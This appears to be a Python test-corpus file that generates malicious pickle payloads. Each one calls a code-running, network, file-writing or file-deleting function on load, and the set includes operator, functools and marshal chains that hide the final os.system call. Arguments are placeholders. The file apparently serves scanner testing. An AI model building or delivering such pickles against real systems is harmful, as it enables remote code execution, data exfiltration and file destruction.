"""What a pickle may call: one file for each thing that is known to run code, or to move data."""

import marshal
from collections.abc import Iterator
from typing import Any

from hostile_artifacts.case import GADGET, Case, bare
from hostile_artifacts.opcodes import (
    COMMAND,
    HOST,
    PLACE,
    SYSTEM,
    URL,
    Code,
    call,
    framed,
    named,
    stacked,
    whole,
)

_OS = call(named("importlib", "import_module"), "os")
_ATTR = named("operator", "attrgetter")
_WORD = "pass"
"""Source that does nothing."""


def _code() -> bytes:
    """A marshalled code object that does nothing."""
    return marshal.dumps(compile(_WORD, "inert", "exec"))


_CALLS: tuple[tuple[str, str, str, tuple[Any, ...]], ...] = (
    ("importing", "importlib", "import_module", ("os",)),
    ("importing", "importlib", "__import__", ("os",)),
    ("importing", "imp", "load_source", ("x", PLACE)),
    ("importing", "site", "addsitedir", (PLACE,)),
    ("importing", "builtins", "__import__", ("os",)),
    ("resolving", "pkgutil", "resolve_name", ("os:system",)),
    ("resolving", "pydoc", "locate", ("os.system",)),
    ("resolving", "logging.config", "_resolve", ("os.system",)),
    ("resolving", "unittest.mock", "_importer", ("os.system",)),
    ("resolving", "xmlrpc.server", "resolve_dotted_attribute", (_OS, "system")),
    ("measuring", "timeit", "timeit", (_WORD,)),
    ("measuring", "timeit", "repeat", (_WORD,)),
    ("measuring", "timeit", "main", (["pass"],)),
    ("measuring", "cProfile", "run", (_WORD,)),
    ("measuring", "cProfile", "runctx", (_WORD, {}, {})),
    ("measuring", "profile", "run", (_WORD,)),
    ("debuggers", "pdb", "run", (_WORD,)),
    ("debuggers", "pdb", "runeval", ("0",)),
    ("consoles", "code", "interact", ()),
    ("running-modules", "runpy", "run_module", ("antigravity",)),
    ("running-modules", "runpy", "run_path", (PLACE,)),
    ("running-modules", "runpy", "_run_code", (_WORD, {})),
    ("running-modules", "test.support.script_helper", "assert_python_ok", ("-c", _WORD)),
    ("doctest", "doctest", "debug_script", (_WORD,)),
    ("doctest", "doctest", "testsource", ("os", "x")),
    ("foreign-code", "ctypes", "CDLL", (PLACE,)),
    ("foreign-code", "_ctypes", "dlopen", (PLACE, 0)),
    ("foreign-code", "numpy.ctypeslib", "load_library", ("x", PLACE)),
    ("uuid", "uuid", "_get_command_stdout", (COMMAND,)),
    ("uuid", "uuid", "_popen", (COMMAND,)),
    ("imaplib", "imaplib", "IMAP4_stream", (COMMAND,)),
    ("platform-support", "_aix_support", "_read_cmd_output", (COMMAND,)),
    ("platform-support", "_osx_support", "_read_output", (COMMAND,)),
    ("platform-support", "_osx_support", "_find_build_tool", (COMMAND,)),
    ("platform-support", "_osx_support", "compiler_fixup", ([COMMAND], [])),
    ("platform-support", "platform", "_syscmd_file", (COMMAND,)),
    ("pyrepl", "_pyrepl.pager", "pipe_pager", ("x", COMMAND)),
    ("pyrepl", "_pyrepl.pager", "tempfile_pager", ("x", COMMAND)),
    ("pagers", "pydoc", "pipepager", ("x", COMMAND)),
    ("pagers", "pydoc", "tempfilepager", ("x", COMMAND)),
    ("pagers", "webbrowser", "open", (URL,)),
    ("pagers", "webbrowser", "GenericBrowser", (COMMAND,)),
    ("processes", "os", "popen", (COMMAND,)),
    ("processes", "os", "execvp", (COMMAND, [COMMAND])),
    ("processes", "os", "posix_spawn", (COMMAND, [COMMAND], {})),
    ("processes", "subprocess", "Popen", ([COMMAND],)),
    ("processes", "subprocess", "getoutput", (COMMAND,)),
    ("processes", "_posixsubprocess", "fork_exec", ([COMMAND],)),
    ("processes", "pty", "spawn", (COMMAND,)),
    ("processes", "distutils.spawn", "spawn", ([COMMAND],)),
    ("processes", "setuptools._distutils.spawn", "spawn", ([COMMAND],)),
    ("processes", "numpy.distutils.exec_command", "exec_command", (COMMAND,)),
    ("processes", "multiprocessing.util", "spawnv_passfds", (COMMAND, [COMMAND], [])),
    ("processes", "asyncio", "create_subprocess_shell", (COMMAND,)),
    ("evaluation", "builtins", "eval", ("0",)),
    ("evaluation", "builtins", "exec", (_WORD,)),
    ("evaluation", "builtins", "breakpoint", ()),
    ("evaluation", "pandas", "eval", ("0",)),
    ("evaluation", "pandas.core.computation.eval", "eval", ("0",)),
    ("evaluation", "sympy", "sympify", ("0",)),
    ("editors", "idlelib.autocomplete", "get_entity", ("os",)),
    ("editors", "idlelib.calltip", "get_entity", ("os",)),
    ("numpy-f2py", "numpy.f2py", "compile", (b"end",)),
    ("numpy-f2py", "numpy.f2py.crackfortran", "myeval", ("0",)),
    ("numpy-f2py", "numpy.f2py.crackfortran", "param_eval", ("0", {}, {})),
    ("numpy-f2py", "numpy.f2py.crackfortran", "_eval_length", ("0", {})),
    ("numpy-f2py", "numpy.f2py.diagnose", "run_command", (COMMAND,)),
    ("numpy-testing", "numpy.testing", "runstring", (_WORD, {})),
    ("numpy-testing", "numpy.testing._private.utils", "runstring", (_WORD, {})),
    ("numpy-testing", "numpy.testing", "measure", (_WORD,)),
    ("numpy-testing", "numpy.testing", "rundocs", (PLACE,)),
    ("torch", "torch.hub", "load", ("a/b", "c")),
    ("torch", "torch.utils.cpp_extension", "load", ("x", [PLACE])),
    ("torch", "torch.utils.bottleneck.__main__", "run_cprofile", (_WORD, {})),
    ("torch", "torch.utils.bottleneck.__main__", "run_autograd_prof", (_WORD, {})),
    ("torch", "torch.utils.collect_env", "run", (COMMAND,)),
    ("torch", "torch._inductor.codecache", "compile_file", (PLACE, PLACE, [COMMAND])),
    ("torch", "torch.jit.unsupported_tensor_ops", "execWrapper", (_WORD, {}, {})),
    ("torch", "torch.fx.graph_module", "_forward_from_src", (_WORD, {})),
    ("torch", "torch.package", "PackageImporter", (PLACE,)),
    ("torch", "torch.ops", "load_library", (PLACE,)),
    ("installers", "ensurepip", "_run_pip", (["--version"],)),
    ("installers", "pip", "main", (["--version"],)),
    ("installers", "pip._internal", "main", (["--version"],)),
    ("installers", "pip._internal.cli.main", "main", (["--version"],)),
    ("installers", "setuptools.sandbox", "run_setup", (PLACE, [])),
    ("loader-trampoline", "joblib", "load", (PLACE,)),
    ("loader-trampoline", "joblib.numpy_pickle", "load", (PLACE,)),
    ("loader-trampoline", "numpy", "load", (PLACE,)),
    ("loader-trampoline", "numpy.lib.npyio", "load", (PLACE,)),
    ("loader-trampoline", "pandas", "read_pickle", (PLACE,)),
    ("loader-trampoline", "pandas.io.pickle", "read_pickle", (PLACE,)),
    ("loader-trampoline", "torch", "load", (PLACE,)),
    ("loader-trampoline", "torch.serialization", "load", (PLACE,)),
    ("loader-trampoline", "torch.jit", "load", (PLACE,)),
    ("loader-trampoline", "pickle", "loads", (b"N.",)),
    ("loader-trampoline", "_pickle", "loads", (b"N.",)),
    ("loader-trampoline", "dill", "loads", (b"N.",)),
    ("loader-trampoline", "cloudpickle", "loads", (b"N.",)),
    ("loader-trampoline", "shelve", "open", (PLACE,)),
    ("loader-trampoline", "yaml", "unsafe_load", ("0",)),
    ("loader-trampoline", "keras.models", "load_model", (PLACE,)),
    ("exfiltration", "pandas", "read_csv", (URL,)),
    ("exfiltration", "pandas", "read_html", (URL,)),
    ("exfiltration", "numpy", "loadtxt", (URL,)),
    ("exfiltration", "sklearn.datasets", "fetch_openml", ("x",)),
    ("exfiltration", "urllib.request", "urlopen", (URL,)),
    ("exfiltration", "urllib.request", "urlretrieve", (URL, PLACE)),
    ("exfiltration", "requests", "get", (URL,)),
    ("exfiltration", "ftplib", "FTP", (HOST,)),
    ("exfiltration", "smtplib", "SMTP", (HOST,)),
    ("exfiltration", "poplib", "POP3", (HOST,)),
    ("exfiltration", "ssl", "get_server_certificate", ((HOST, 443),)),
    ("name-look-up", "socket", "gethostbyname", (HOST,)),
    ("name-look-up", "socket", "getaddrinfo", (HOST, 80)),
    ("name-look-up", "socket", "create_connection", ((HOST, 80),)),
    ("name-look-up", "_socket", "gethostbyname", (HOST,)),
    ("file-write", "logging", "FileHandler", (PLACE,)),
    ("file-write", "logging.config", "fileConfig", (PLACE,)),
    ("file-write", "io", "FileIO", (PLACE, "w")),
    ("file-write", "_io", "FileIO", (PLACE, "w")),
    ("file-write", "io", "open", (PLACE, "w")),
    ("file-write", "builtins", "open", (PLACE, "w")),
    ("file-write", "codecs", "open", (PLACE, "w")),
    ("file-write", "venv", "create", (PLACE,)),
    ("file-write", "shutil", "rmtree", (PLACE,)),
    ("file-write", "shutil", "copy", (PLACE, PLACE)),
    ("file-write", "os", "remove", (PLACE,)),
    ("file-write", "distutils.file_util", "write_file", (PLACE, [])),
    ("file-write", "numpy", "save", (PLACE, 0)),
    ("file-write", "numpy", "memmap", (PLACE, "uint8", "w+")),
    ("file-write", "sqlite3", "connect", (PLACE,)),
    ("file-write", "tarfile", "open", (PLACE, "w")),
    ("file-write", "zipfile", "ZipFile", (PLACE, "w")),
    ("file-read", "numpy", "fromfile", (PLACE,)),
    ("file-read", "sklearn.datasets", "load_files", (PLACE,)),
    ("file-read", "linecache", "getlines", (PLACE,)),
    ("file-read", "fileinput", "input", (PLACE,)),
    ("deferred", "atexit", "register", (SYSTEM, COMMAND)),
)
"""Weakness, module, name, arguments: called once."""

_METHODS: tuple[tuple[str, str, str, tuple[Any, ...]], ...] = (
    ("importing", "importlib.machinery", "SourceFileLoader.load_module", (None,)),
    ("importing", "zipimport", "zipimporter.load_module", (None, "x")),
    ("evaluation", "typing", "ForwardRef._evaluate", (None, {}, {})),
    ("editors", "idlelib.run", "Executive.runcode", (None, _WORD)),
    ("editors", "idlelib.pyshell", "ModifiedInterpreter.runcommand", (None, _WORD)),
    ("loader-trampoline", "multiprocessing.reduction", "ForkingPickler.loads", (b"N.",)),
    ("measuring", "trace", "Trace.run", (None, _WORD)),
    ("foreign-code", "cffi", "FFI.dlopen", (None, PLACE)),
    ("measuring", "profile", "Profile.run", (None, _WORD)),
    ("debuggers", "bdb", "Bdb.run", (None, _WORD)),
    ("consoles", "code", "InteractiveInterpreter.runcode", (None, _WORD)),
    ("editors", "idlelib.debugobj", "ObjectTreeItem.SetText", (None, "0")),
    ("evaluation", "lib2to3.pgen2.grammar", "Grammar.loads", (None, b"N.")),
    ("evaluation", "pandas", "DataFrame.query", (None, "0")),
    ("file-write", "pandas", "DataFrame.to_csv", (None, PLACE)),
    ("file-write", "pathlib", "Path.write_text", (PLACE, "")),
    ("file-write", "tarfile", "TarFile.extractall", (None, PLACE)),
    ("torch", "torch._dynamo.guards", "GuardBuilder.get", (None, "0")),
    ("torch", "torch.utils._config_module", "ConfigModule.load_config", (None, b"N.")),
    ("foreign-code", "ctypes", "cdll.LoadLibrary", (PLACE,)),
)
"""The same with names that have dots, which protocol 4 follows."""


def _chains() -> dict[str, tuple[str, Code]]:
    """Several calls, none of which needs to name what is run at the end."""
    function = call(named("types", "FunctionType"), call(named("marshal", "loads"), _code()), {})
    return {
        "marshal-loads-and-function-type": ("marshal", call(function)),
        "marshal-loads-and-exec": (
            "marshal",
            call(named("builtins", "exec"), call(named("marshal", "loads"), _code())),
        ),
        "operator-attrgetter": ("operators", call(call(call(_ATTR, "system"), _OS), COMMAND)),
        "operator-methodcaller": (
            "operators",
            call(call(named("operator", "methodcaller"), "system", COMMAND), _OS),
        ),
        "operator-itemgetter": (
            "operators",
            call(call(named("operator", "itemgetter"), "os"), named("sys", "modules")),
        ),
        "operator-call": ("operators", call(named("_operator", "call"), SYSTEM, COMMAND)),
        "builtins-getattr": (
            "operators",
            call(call(named("builtins", "getattr"), _OS, "system"), COMMAND),
        ),
        "functools-partial": (
            "partial",
            call(call(named("functools", "partial"), SYSTEM, COMMAND)),
        ),
        "functools-reduce": (
            "partial",
            call(named("functools", "reduce"), SYSTEM, [COMMAND, COMMAND]),
        ),
        "builtins-map": (
            "partial",
            call(named("builtins", "list"), call(named("builtins", "map"), SYSTEM, [COMMAND])),
        ),
        "itertools-starmap": (
            "partial",
            call(
                named("collections", "deque"),
                call(named("itertools", "starmap"), SYSTEM, [(COMMAND,)]),
            ),
        ),
        "resolved-and-called": (
            "resolving",
            call(call(named("pkgutil", "resolve_name"), "os:system"), COMMAND),
        ),
        "timer-started": (
            "deferred",
            call(
                call(named("operator", "methodcaller"), "start"),
                call(named("threading", "Timer"), 0, SYSTEM, (COMMAND,)),
            ),
        ),
        "exec-compile": (
            "evaluation",
            call(named("builtins", "exec"), call(named("builtins", "compile"), _WORD, "x", "exec")),
        ),
        "https-request": (
            "exfiltration",
            call(
                call(named("operator", "methodcaller"), "request", "GET", "/"),
                call(named("http.client", "HTTPSConnection"), HOST),
            ),
        ),
        "weakref-finalize": (
            "deferred",
            call(named("weakref", "finalize"), named("abc", "ABC"), SYSTEM, COMMAND),
        ),
    }


def cases() -> Iterator[Case]:
    """Every gadget, in protocol 2 or, where names have dots, 4."""
    for weakness, module, name, args in _CALLS:
        label = f"{module}-{name}".replace(".", "-")
        yield bare(label, whole(call(named(module, name), *args)), family=GADGET, weakness=weakness)
    for weakness, module, name, args in _METHODS:
        label = f"{module}-{name}".replace(".", "-")
        body = framed(call(stacked(module, name), *args))
        yield bare(label, body, family=GADGET, weakness=weakness)
    for label, (weakness, body) in _chains().items():
        yield bare(label, whole(body), family=GADGET, weakness=weakness)
